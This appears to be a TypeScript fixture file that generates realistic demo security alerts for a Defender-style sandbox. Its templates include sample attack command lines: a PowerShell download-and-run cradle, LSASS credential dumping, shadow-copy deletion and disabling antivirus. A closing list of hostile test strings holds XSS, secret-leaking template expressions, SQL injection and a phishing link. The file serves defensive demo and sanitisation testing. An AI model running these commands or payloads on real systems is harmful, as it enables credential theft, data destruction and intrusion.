import type { AlertSeverity, DetectionSource, ServiceSource } from '../defender/alert-enums.js';

/**
 * What demo alerts are made of: detections whose title, tactic, ATT&CK technique, sources and
 * evidence belong together, so the sandbox looks like a real Defender tenant.
 */

/** Evidence a template asks for; `mailbox` and `cloudApp` become opaque evidence objects. */
export type EvidenceNeed = 'device' | 'user' | 'file' | 'process' | 'ip' | 'url' | 'mailbox' | 'cloudApp';

/** The kind of device a detection happens on. */
export type DeviceRole = 'server' | 'domainController' | 'workstation';

/** One kind of detection. Placeholders in command lines: {user} {domain} {host} {file}. */
export interface AlertTemplate {
  title: string;
  category: string;
  mitreTechniques: string[];
  serviceSource: ServiceSource;
  detectionSource: DetectionSource;
  severities: [AlertSeverity, number][];
  /** Relative frequency among templates. */
  weight: number;
  description: string;
  recommendedActions: string;
  evidence: EvidenceNeed[];
  deviceRole?: DeviceRole;
  files?: { fileName: string; filePath: string }[];
  commandLines?: string[];
  threatDisplayName?: string;
  threatFamilyName?: string;
  /** Determination when a resolved alert turned out true positive. */
  truePositiveAs: string;
  /** Share of resolved alerts of this kind that were false positives or expected activity. */
  benignShare: number;
}

const ENDPOINT = { serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'microsoftDefenderForEndpoint' } as const;
const ISOLATE = 'Isolate the device if the activity is not expected, collect an investigation package, and review the process tree and the timeline around the alert.';

/** The detections demo tenants raise. */
export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  {
    ...ENDPOINT, title: 'Suspicious PowerShell command line', category: 'Execution', mitreTechniques: ['T1059.001'],
    severities: [['medium', 6], ['high', 2], ['low', 2]], weight: 10, evidence: ['device', 'user', 'process'], deviceRole: 'workstation',
    description: 'A suspicious PowerShell command line was observed. Attackers use encoded and hidden PowerShell to download and run payloads.',
    recommendedActions: `Decode and review the command line.\n${ISOLATE}`,
    commandLines: [
      'powershell.exe -NoP -NonI -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      'powershell.exe -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString(\'http://185.220.101.23/a.ps1\')"',
    ],
    truePositiveAs: 'malware', benignShare: 0.35,
  },
  {
    ...ENDPOINT, title: 'Ransomware behavior detected in the file system', category: 'Impact', mitreTechniques: ['T1486', 'T1490'],
    severities: [['high', 1]], weight: 3, evidence: ['device', 'user', 'process', 'file'], deviceRole: 'server',
    description: 'A process encrypted many files and deleted volume shadow copies, behaviour typical of ransomware.',
    recommendedActions: `Isolate the device immediately and disable the account involved.\n${ISOLATE}`,
    files: [{ fileName: 'svchosts.exe', filePath: 'C:\\ProgramData\\Microsoft\\Crypto' }],
    commandLines: ['vssadmin.exe delete shadows /all /quiet', 'wmic.exe shadowcopy delete'],
    threatFamilyName: 'LockBit', threatDisplayName: 'Ransom:Win32/LockBit', truePositiveAs: 'malware', benignShare: 0.05,
  },
  {
    ...ENDPOINT, title: 'Suspicious access to LSASS service', category: 'CredentialAccess', mitreTechniques: ['T1003.001'],
    severities: [['high', 3], ['medium', 1]], weight: 5, evidence: ['device', 'user', 'process'], deviceRole: 'server',
    description: 'A process read memory of the Local Security Authority Subsystem Service (lsass.exe), which may expose credentials.',
    recommendedActions: `Reset the credentials of accounts that signed in on the device.\n${ISOLATE}`,
    commandLines: ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Windows\\Temp\\lsass.dmp full', 'procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\ls.dmp'],
    truePositiveAs: 'multiStagedAttack', benignShare: 0.2,
  },
  {
    serviceSource: 'microsoftDefenderForEndpoint', detectionSource: 'antivirus', title: "'Mimikatz' credential theft tool was detected",
    category: 'CredentialAccess', mitreTechniques: ['T1003'], severities: [['high', 1]], weight: 3, evidence: ['device', 'user', 'file'],
    deviceRole: 'workstation', description: 'Microsoft Defender Antivirus detected a credential theft tool.',
    recommendedActions: 'Confirm the file was quarantined, reset the credentials used on the device and look for lateral movement.',
    files: [{ fileName: 'mimikatz.exe', filePath: 'C:\\Users\\Public\\Downloads' }, { fileName: 'm64.exe', filePath: 'C:\\Windows\\Temp' }],
    threatDisplayName: 'HackTool:Win32/Mimikatz', threatFamilyName: 'Mimikatz', truePositiveAs: 'compromisedAccount', benignShare: 0.3,
  },
  {
    ...ENDPOINT, title: 'Suspicious connection to a rare domain', category: 'CommandAndControl', mitreTechniques: ['T1071.001', 'T1568'],
    severities: [['low', 5], ['medium', 3], ['informational', 2]], weight: 8, evidence: ['device', 'process', 'ip', 'url'], deviceRole: 'workstation',
    description: 'A process connected to a domain rarely seen in the organization, a pattern of command-and-control traffic.',
    recommendedActions: 'Check the domain reputation and block it if malicious. Review which process made the connection.',
    commandLines: ['"C:\\Users\\{user}\\AppData\\Local\\Temp\\updater.exe" /silent'], truePositiveAs: 'malware', benignShare: 0.6,
  },
  {
    ...ENDPOINT, title: 'A potentially malicious file from an email attachment was opened', category: 'InitialAccess',
    mitreTechniques: ['T1566.001', 'T1204.002'], severities: [['medium', 3], ['high', 1]], weight: 6, evidence: ['device', 'user', 'file', 'process'],
    deviceRole: 'workstation', description: 'A user opened a document received by email that then started a script host.',
    recommendedActions: 'Find other recipients of the email and purge it. Reset the user\'s password if credentials were entered.',
    files: [{ fileName: 'Invoice_0425.docm', filePath: 'C:\\Users\\{user}\\Downloads' }, { fileName: 'Remittance advice.xlsm', filePath: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook' }],
    commandLines: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\{file}"'],
    truePositiveAs: 'phishing', benignShare: 0.25,
  },
  {
    ...ENDPOINT, title: 'Attempt to turn off Microsoft Defender Antivirus protection', category: 'DefenseEvasion', mitreTechniques: ['T1562.001'],
    severities: [['medium', 1]], weight: 4, evidence: ['device', 'user', 'process'], deviceRole: 'workstation',
    description: 'A process tried to switch off real-time protection of Microsoft Defender Antivirus.',
    recommendedActions: `Verify whether an administrator made the change.\n${ISOLATE}`,
    commandLines: ['powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'], truePositiveAs: 'maliciousUserActivity', benignShare: 0.5,
  },
  {
    ...ENDPOINT, title: 'Suspicious scheduled task created', category: 'Persistence', mitreTechniques: ['T1053.005'],
    severities: [['low', 2], ['medium', 1]], weight: 4, evidence: ['device', 'process'], deviceRole: 'server',
    description: 'A scheduled task that runs a script from a user-writable folder was created.',
    recommendedActions: 'Review the task and the file it runs; delete both if they are not expected.',
    commandLines: ['schtasks.exe /create /tn "OneDrive Sync Check" /tr "C:\\Users\\Public\\sync.vbs" /sc minute /mo 30 /ru SYSTEM'],
    truePositiveAs: 'malware', benignShare: 0.55,
  },
  {
    serviceSource: 'microsoftDefenderForIdentity', detectionSource: 'microsoftDefenderForIdentity', title: 'Suspected DCSync attack (replication of directory services)',
    category: 'CredentialAccess', mitreTechniques: ['T1003.006'], severities: [['high', 1]], weight: 2, evidence: ['device', 'user'], deviceRole: 'domainController',
    description: 'An account that is not a domain controller requested replication of directory secrets.',
    recommendedActions: 'Check whether the source computer is a legitimate replication server; if not, reset the KRBTGT password twice and investigate the account.',
    truePositiveAs: 'compromisedAccount', benignShare: 0.15,
  },
  {
    serviceSource: 'microsoftDefenderForIdentity', detectionSource: 'microsoftDefenderForIdentity', title: 'Suspected Kerberos SPN exposure (Kerberoasting)',
    category: 'CredentialAccess', mitreTechniques: ['T1558.003'], severities: [['medium', 1]], weight: 3, evidence: ['device', 'user'], deviceRole: 'workstation',
    description: 'An account requested service tickets for many service principal names in a short time.',
    recommendedActions: 'Review the service accounts targeted and rotate their passwords to long random ones.',
    truePositiveAs: 'compromisedAccount', benignShare: 0.3,
  },
  {
    serviceSource: 'microsoftDefenderForOffice365', detectionSource: 'microsoftDefenderForOffice365', title: 'Email messages containing malicious URL removed after delivery',
    category: 'InitialAccess', mitreTechniques: ['T1566.002'], severities: [['informational', 3], ['low', 1]], weight: 7, evidence: ['user', 'mailbox', 'url'],
    description: 'Emails with a URL later found malicious were removed from mailboxes by zero-hour auto purge.',
    recommendedActions: 'Check whether any recipient clicked the URL, and block the sender if it is not legitimate.',
    truePositiveAs: 'phishing', benignShare: 0.1,
  },
  {
    serviceSource: 'microsoftDefenderForOffice365', detectionSource: 'microsoftDefenderForOffice365', title: 'A potentially malicious URL click was detected',
    category: 'InitialAccess', mitreTechniques: ['T1566.002'], severities: [['high', 1], ['medium', 2]], weight: 4, evidence: ['user', 'mailbox', 'url', 'ip'],
    description: 'A user clicked a link in an email that was later identified as malicious.',
    recommendedActions: 'Reset the user\'s password and revoke sessions if credentials were entered on the page.',
    truePositiveAs: 'phishing', benignShare: 0.2,
  },
  {
    serviceSource: 'azureAdIdentityProtection', detectionSource: 'azureAdIdentityProtection', title: 'Unfamiliar sign-in properties',
    category: 'InitialAccess', mitreTechniques: ['T1078'], severities: [['medium', 2], ['low', 1]], weight: 5, evidence: ['user', 'ip'],
    description: 'A sign-in came from a location, device or network unusual for the user.',
    recommendedActions: 'Confirm the sign-in with the user; if not theirs, reset the password and revoke refresh tokens.',
    truePositiveAs: 'compromisedAccount', benignShare: 0.7,
  },
  {
    serviceSource: 'microsoftDefenderForCloudApps', detectionSource: 'cloudAppSecurity', title: 'Mass download by a single user',
    category: 'Exfiltration', mitreTechniques: ['T1530'], severities: [['medium', 1], ['low', 1]], weight: 3, evidence: ['user', 'ip', 'cloudApp'],
    description: 'A user downloaded an unusually large number of files from SharePoint Online in one session.',
    recommendedActions: 'Contact the user and their manager; suspend the account if the download is not justified.',
    truePositiveAs: 'maliciousUserActivity', benignShare: 0.6,
  },
  {
    serviceSource: 'microsoftSentinel', detectionSource: 'scheduledAlerts', title: 'Rare RDP connections to a server',
    category: 'LateralMovement', mitreTechniques: ['T1021.001'], severities: [['low', 2], ['medium', 1]], weight: 2, evidence: ['device', 'ip'], deviceRole: 'server',
    description: 'A Microsoft Sentinel analytics rule found RDP connections from a host that rarely connects to this server.',
    recommendedActions: 'Confirm the connection with the server owner and restrict RDP to jump hosts.',
    truePositiveAs: 'other', benignShare: 0.6,
  },
];

/** The device groups every demo tenant uses (rbacGroupName, rbacGroupId). */
export const DEVICE_GROUPS = {
  servers: { rbacGroupName: 'Servers', rbacGroupId: 4101 },
  workstations: { rbacGroupName: 'Workstations', rbacGroupId: 4102 },
  financeLaptops: { rbacGroupName: 'Finance laptops', rbacGroupId: 4103 },
  unassigned: { rbacGroupName: 'UnassignedGroup', rbacGroupId: 0 },
} as const;

/** Given names and surnames demo users are made from. */
export const FIRST_NAMES = ['Alex', 'Maria', 'Jonas', 'Priya', 'Chen', 'Fatima', 'Lukas', 'Sofia', 'Omar', 'Hannah', 'Mateo', 'Ingrid'];
/** Surnames for demo users. */
export const LAST_NAMES = ['Berg', 'Novak', 'Okafor', 'Schmidt', 'Tanaka', 'Moreau', 'Kowalski', 'Haddad', 'Jensen', 'Rossi'];

/** The MSSP analysts who own and resolve demo alerts. */
export const SOC_ANALYSTS = ['dana.kim@mssp-soc.example', 'ravi.menon@mssp-soc.example', 'lea.fischer@mssp-soc.example'];

/** Rare domains and addresses for network evidence (documentation ranges and invented names). */
export const RARE_DOMAINS = ['cdn-update-check.top', 'files-sharepoint-login.info', 'telemetry-ms-sync.xyz', 'secure-docs-review.online'];
/** Remote addresses (IPv4 documentation ranges). */
export const REMOTE_IPS = ['203.0.113.45', '198.51.100.17', '192.0.2.201', '203.0.113.99'];

/** Comments SOC analysts leave on resolved alerts, by outcome. */
export const RESOLUTION_COMMENTS = {
  truePositive: ['Device isolated and investigation package collected.', 'Confirmed malicious. Credentials reset, customer informed.'],
  benign: ['Confirmed with the customer: planned admin activity.', 'Known line-of-business tool, closing as expected activity.'],
} as const;

/**
 * Untrusted text an attacker could get into an alert (file names, command lines, titles of
 * custom detections): Markdown links, template expressions, HTML, mentions and control characters.
 */
export const HOSTILE_TEXTS = [
  '[Click to re-authenticate](https://evil.example/login) Suspicious sign-in',
  'Invoice ${process.env.BOT_PASSWORD} ${{secrets}} {{user.token}}',
  '<img src=x onerror="alert(1)"><script>fetch("https://evil.example")</script>',
  '**URGENT** <at>SOC Team</at> @everyone ![pixel](https://evil.example/p.png)',
  'line one\r\nline two\u202Egnp.exe\u0000',
  "O'Brien'); DROP TABLE alerts;-- ' or severity eq 'high",
];
